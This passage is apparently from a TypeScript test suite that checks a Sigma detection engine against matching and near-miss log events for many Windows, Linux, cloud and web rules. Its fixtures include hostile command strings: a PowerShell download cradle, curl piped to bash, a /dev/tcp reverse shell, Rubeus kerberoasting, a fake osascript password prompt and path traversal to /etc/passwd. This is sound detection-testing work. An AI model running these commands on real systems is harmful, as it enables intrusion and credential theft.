    ['windows/process_creation/proc_creation_win_hashes_missing', { Image: 'C:\\Users\\Public\\a.exe' }, { Image: 'C:\\Users\\Public\\a.exe', Hashes: null }],
    ['windows/process_creation/proc_creation_win_service_account_shell', { User: 'CORP\\svc_backup', Image: 'C:\\Windows\\System32\\cmd.exe' }, { User: 'CORP\\alice', Image: 'C:\\Windows\\System32\\cmd.exe' }],
    ['windows/builtin/security/win_security_remote_registry_non_admin', { EventID: 5145, RelativeTargetName: 'PIPE\\winreg', IpAddress: '10.9.9.9' }, { EventID: 5145, RelativeTargetName: 'PIPE\\winreg', IpAddress: '10.1.1.5' }],
    ['windows/builtin/security/win_security_admin_share_non_admin', { EventID: 5140, ShareName: '\\\\*\\ADMIN$', IpAddress: '198.51.100.4' }, { EventID: 5140, ShareName: '\\\\*\\ADMIN$', IpAddress: '::1' }],
    ['windows/builtin/security/win_security_password_reset_self', { EventID: 4724, TargetUserName: 'Bob', SubjectUserName: 'bob' }, { EventID: 4724, TargetUserName: 'Bob', SubjectUserName: 'helpdesk' }],
    ['windows/builtin/security/win_security_failed_logon_burst', { EventID: 4625, SubStatus: '0xc0000064' }, { EventID: 4625, SubStatus: '0xC000006A' }],
    ['windows/builtin/security/win_security_keyword_all', { CommandLine: 'Rubeus.exe kerberoast /outfile:h.txt' }, { CommandLine: 'Rubeus.exe triage' }],
    ['windows/builtin/security/win_security_keyword_all', { CommandLine: 'Rubeus.exe asktgs /service:cifs/dc1' }, { CommandLine: 'asktgs service' }],
    ['windows/powershell/posh_ps_download_cradle', { ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://x')" }, { ScriptBlockText: "(New-Object Net.WebClient).DownloadString('http://x') | Out-File a" }],
    ['windows/registry/registry_set/registry_set_disable_defender', { TargetObject: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring', Details: 'DWORD (0x00000001)' }, { TargetObject: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring', Details: 'DWORD (0x00000000)' }],
    ['windows/file/file_event/file_event_win_image_drops_itself', { Image: 'C:\\tmp\\evil.exe', TargetFilename: 'C:\\Users\\a\\C:\\tmp\\evil.exe' }, { Image: 'C:\\Windows\\System32\\msiexec.exe', TargetFilename: 'C:\\Windows\\System32\\msiexec.exe' }],
    ['windows/builtin/system/win_system_service_install_keywords', { Provider_Name: 'Service Control Manager', EventID: 7045, ServiceName: 'PSEXESVC' }, { Provider_Name: 'Service Control Manager', EventID: 7045, ServiceName: 'Spooler' }],
    ['linux/auditd/lnx_auditd_base64_decode', { type: 'EXECVE', a0: 'base64', a1: '-d' }, { type: 'EXECVE', a0: 'base64', a1: 'file' }],
    ['linux/process_creation/proc_creation_lnx_curl_pipe_shell', { Image: '/usr/bin/curl', CommandLine: 'curl -fsSL https://x.example/i.sh | bash' }, { Image: '/usr/bin/curl', CommandLine: 'curl -o i.sh https://x.example/i.sh' }],
    ['linux/builtin/lnx_shell_susp_commands', { message: 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' }, { message: 'ls -la' }],
    ['macos/process_creation/proc_creation_macos_osascript_prompt', { Image: '/usr/bin/osascript', CommandLine: 'osascript -e display dialog "Enter your password" default answer "" with hidden answer' }, { Image: '/usr/bin/osascript', CommandLine: 'osascript -e display dialog "Hi"' }],
    ['network/zeek/zeek_dns_onion', { query: 'abcdefgh.onion' }, { query: 'onion.example.com' }],
    ['network/firewall/net_firewall_smb_rdp_outbound', { dst_port: 445, src_ip: '10.0.0.5', dst_ip: '198.51.100.7' }, { dst_port: 445, src_ip: '10.0.0.5', dst_ip: '10.0.0.9' }],
    ['network/firewall/net_firewall_high_port_listener', { dst_port: 50_000, bytes_out: 20_000_000, duration: 30, packets: 1000 }, { dst_port: 443, bytes_out: 20_000_000, duration: 30, packets: 1000 }],
    ['web/webserver_generic/web_path_traversal', { 'cs-uri-query': '/x?f=../../../../etc/passwd', 'sc-status': 200 }, { 'cs-uri-query': '/x?f=../../../../etc/passwd', 'sc-status': 404 }],
    ['web/proxy_generic/proxy_susp_user_agent', { 'c-useragent': 'sqlmap/1.7.2#stable', 'cs-host': 'x.example' }, { 'c-useragent': 'Mozilla/5.0 sqlmap', 'cs-host': 'x.example' }],
    ['web/proxy_generic/proxy_susp_user_agent', { 'c-useragent': '', 'cs-host': 'transfer.sh' }, { 'c-useragent': '', 'cs-host': 'x.example' }],
    ['cloud/aws/cloudtrail/aws_iam_backdoor_users_keys', { eventSource: 'iam.amazonaws.com', eventName: 'CreateAccessKey', userIdentity: { arn: 'arn:aws:iam::1:user/alice' }, responseElements: { accessKey: { userName: 'bob' } } }, { eventSource: 'iam.amazonaws.com', eventName: 'CreateAccessKey', userIdentity: { arn: 'arn:aws:iam::1:user/alice' }, responseElements: { accessKey: { userName: 'alice' } } }],
    ['cloud/aws/cloudtrail/aws_cloudtrail_disable_logging', { eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging' }, { eventSource: 'cloudtrail.amazonaws.com', eventName: 'StartLogging' }],
    ['cloud/aws/cloudtrail/aws_console_login_no_mfa', { eventName: 'ConsoleLogin', additionalEventData: { MFAUsed: 'No' }, responseElements: { ConsoleLogin: 'Success' }, userIdentity: { type: 'IAMUser' } }, { eventName: 'ConsoleLogin', additionalEventData: { MFAUsed: 'Yes' }, responseElements: { ConsoleLogin: 'Success' } }],
    ['cloud/aws/cloudtrail/aws_root_account_usage', { userIdentity: { type: 'Root' }, eventType: 'AwsApiCall' }, { userIdentity: { type: 'Root', invokedBy: 'support.amazonaws.com' }, eventType: 'AwsApiCall' }],
    ['cloud/azure/activity_logs/azure_role_assignment_write', { operationName: 'Microsoft.Authorization/roleAssignments/write', status: 'Succeeded' }, { operationName: 'Microsoft.Authorization/roleAssignments/write', status: 'Failed' }],
    ['cloud/azure/audit_logs/azure_user_added_to_admin_role', { Category: 'RoleManagement', OperationName: 'Add member to role', TargetResources: [{ modifiedProperties: [{ newValue: '"Global Administrator"' }] }] }, { Category: 'RoleManagement', OperationName: 'Add member to role', TargetResources: [{ modifiedProperties: [{ newValue: '"Reports Reader"' }] }] }],
    ['cloud/azure/signin_logs/azure_signin_legacy_auth', { clientAppUsed: 'IMAP4', status: { errorCode: 0 } }, { clientAppUsed: 'IMAP4', status: { errorCode: 50126 } }],
    ['cloud/azure/identity_protection/azure_identity_protection_anonymous_ip', { riskEventType: 'anonymizedIPAddress' }, { riskEventType: 'unfamiliarFeatures' }],
    ['cloud/gcp/audit/gcp_bucket_enumeration', { gcp: { audit: { method_name: 'storage.buckets.list' } } }, { gcp: { audit: { method_name: 'storage.buckets.get' } } }],
    ['cloud/gcp/audit/gcp_service_account_key_created', { data: { protoPayload: { serviceName: 'iam.googleapis.com', methodName: 'google.iam.admin.v1.CreateServiceAccountKey' } } }, { data: { protoPayload: { serviceName: 'iam.googleapis.com', methodName: 'google.iam.admin.v1.GetServiceAccountKey' } } }],
    ['cloud/m365/microsoft365_suspicious_ip_activity', { eventSource: 'SecurityComplianceCenter', eventName: 'Activity from suspicious IP addresses', status: 'success' }, { eventSource: 'SecurityComplianceCenter', eventName: 'Mass download', status: 'success' }],
    ['cloud/okta/okta_mfa_reset_or_deactivated', { eventtype: 'user.mfa.factor.reset_all' }, { eventtype: 'user.mfa.factor.activate' }],
    ['cloud/okta/okta_admin_role_granted_failed_outcome', { eventtype: 'user.account.privilege.grant', outcome: { result: 'FAILURE' } }, { eventtype: 'user.account.privilege.grant', outcome: { result: 'success' } }],
    ['cloud/okta/okta_admin_login_night', { eventtype: 'user.session.access_admin_app', published: '2024-05-06T03:12:40.000Z' }, { eventtype: 'user.session.access_admin_app', published: '2024-05-06T10:12:40.000Z' }],
    ['cloud/github/github_disable_2fa_requirement', { action: 'org.disable_two_factor_requirement' }, { action: 'org.enable_two_factor_requirement' }],
    ['cloud/onelogin/onelogin_user_assumed_another_user', { event_type_id: 3 }, { event_type_id: 5 }],
    ['cloud/bitbucket/bitbucket_unauthorized_full_export', { auditType: { category: 'Data pipeline', action: 'Full data export triggered' } }, { auditType: { category: 'Data pipeline', action: 'Export cancelled' } }],
    ['application/kubernetes/audit/kubernetes_audit_exec_into_container', { verb: 'create', objectRef: { resource: 'pods', subresource: 'exec', namespace: 'default' } }, { verb: 'create', objectRef: { resource: 'pods', subresource: 'exec', namespace: 'kube-system' } }],
    ['application/django/appframework_django_exceptions', { message: 'django.security.DisallowedHost: Invalid HTTP_HOST header' }, { message: 'GET / 200' }],
    ['application/python/app_python_sql_exceptions', { message: 'psycopg2.ProgrammingError: syntax error at or near' }, { message: 'all good' }],
    ['application/jvm/java_ognl_injection', { message: 'org.apache.commons.ognl.OgnlException: source is null' }, { message: 'NullPointerException' }],
    ['application/opencanary/opencanary_ssh_login', { logtype: 4002 }, { logtype: 4000 }],
    ['category/antivirus/av_password_dumper', { Signature: 'HackTool:Win32/Mimikatz.A' }, { Signature: 'Generic.Mimikatz.7' }],
  ];

  /** An event of the kind the rule's logsource selects, with `raw` as its record. */
  function eventFor(d: DetectionRuleDef, raw: Record<string, unknown>): SecurityEvent {
    const { product, service, category } = d.logsource;
    const graph = product === 'azure' && service === 'signinlogs';
    const provider = graph ? 'microsoft-graph' : (product ?? 'json-logs');
    const dataset = graph ? 'microsoft-graph.sign_ins' : `${provider}.${service ?? 'events'}`;
    const e = ev(raw);
    // The normalized category file events carry (fields.ts maps Sigma's file_event onto it).
    const cat = category === 'file_event' ? 'file' : (category ?? 'configuration');
    return { ...e, event: { ...e.event, provider, dataset, category: [cat] } };
  }

  it('matches SigmaHQ-style regression events, and not their near misses', () => {
    const engine = new SigmaEngine(defs, { minLevel: 'informational', placeholders });
    const byFile = new Map(defs.map((d) => [d.file.slice(dir.length).replace(/\.yml$/, ''), d]));
    const wrong: string[] = [];
    for (const [file, match, noMatch] of cases) {
      const d = byFile.get(file) as DetectionRuleDef | undefined;
      expect(d, file).toBeDefined();
      if (!engine.matchingRules(eventFor(d!, match)).includes(d!.key)) wrong.push(`${file}: missed ${JSON.stringify(match)}`);
      if (engine.matchingRules(eventFor(d!, noMatch)).includes(d!.key)) wrong.push(`${file}: matched ${JSON.stringify(noMatch)}`);
    }
    console.log(`sigma conformance: ${cases.length * 2 - wrong.length} of ${cases.length * 2} regression events behave as expected`);
    expect(wrong).toEqual([]);
  });
});
